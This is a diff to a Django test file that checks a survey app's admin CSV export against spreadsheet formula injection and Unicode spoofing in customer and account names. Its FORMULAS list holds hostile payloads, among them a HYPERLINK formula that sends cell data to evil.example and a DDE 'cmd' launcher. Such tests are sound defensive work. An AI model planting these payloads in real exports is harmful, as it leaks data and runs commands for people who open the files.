@@ -1,10 +1,13 @@
 """What customers and colleagues write to hurt those who read it."""
 
+import csv
+import io
 import re
 from email import message_from_bytes, policy
 from html.parser import HTMLParser
 
 import pytest
+from django.urls import reverse
 from django.utils import timezone
 
 from surveys.api import keys
@@ -12,12 +15,14 @@ from surveys.delivery import claim, emails
 from surveys.loop import ask
 from surveys.models import (
     ApiKey,
+    Channel,
     Customer,
     Message,
     OutreachTask,
     Response,
     ResponseVersion,
     Suppression,
+    Wave,
     Wording,
 )
 from tests.surveys.pages.pressing import press, seen
@@ -154,3 +159,29 @@ def test_spoofs_are_kept_apart_and_made_visible(client, url, manager):
         assert not UNSEEN & set(page), path
         assert "gnp.[U+202E]gpj [U+2066]a[U+2069] pass[U+200B]word[U+FEFF]" in page, path
         assert re.search(r"<bdi[^>]*>gnp", page), path
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+            "\t=1+1", "＝1+1"]  # fmt: skip
+
+
+@pytest.mark.parametrize("hurt", [MARKUP, *FORMULAS])
+def test_in_a_file_for_a_spreadsheet_nothing_runs_and_nothing_is_lost(
+    client, manager, nps, account, customer, hurt
+):
+    account.name, customer.name = hurt, hurt
+    account.save()
+    customer.save()
+    wave = Wave.objects.create(survey=nps, name="By hand", channel=Channel.LINK)
+    ask.launch(wave, manager, timezone.now())
+    ask.plan(timezone.now())
+    client.force_login(manager, backend="django.contrib.auth.backends.ModelBackend")
+    page = client.post(reverse("admin:surveys_wave_links", args=[wave.pk]))
+    assert page["Content-Type"] == "text/csv; charset=utf-8"
+    assert page["X-Content-Type-Options"] == "nosniff"
+    assert page["Content-Disposition"].startswith("attachment;")
+    text = page.getvalue().decode("utf-8-sig")
+    [row] = csv.DictReader(io.StringIO(text, newline=""))
+    shown = hurt if hurt == MARKUP else f"'{hurt}"
+    assert (row["customer"], row["account"]) == (shown, shown)
+    assert len(row) == len(text.splitlines()[0].split(","))  # no cell has become two
